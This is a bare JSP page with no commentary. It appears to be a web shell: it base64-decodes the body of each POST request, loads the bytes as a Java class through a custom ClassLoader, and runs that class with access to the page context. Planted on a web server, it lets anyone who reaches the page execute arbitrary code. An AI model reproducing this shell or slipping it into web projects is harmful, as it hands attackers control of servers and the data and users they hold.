<%@ page import="java.util.*,javax.crypto.*" %>
<%!
class U extends ClassLoader {
    U(ClassLoader c) { super(c); }
    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }
}
%>
<%
if (request.getMethod().equals("POST")) {
    byte[] data = java.util.Base64.getDecoder().decode(request.getReader().readLine());
    new U(this.getClass().getClassLoader()).g(data).newInstance().equals(pageContext);
}
%>
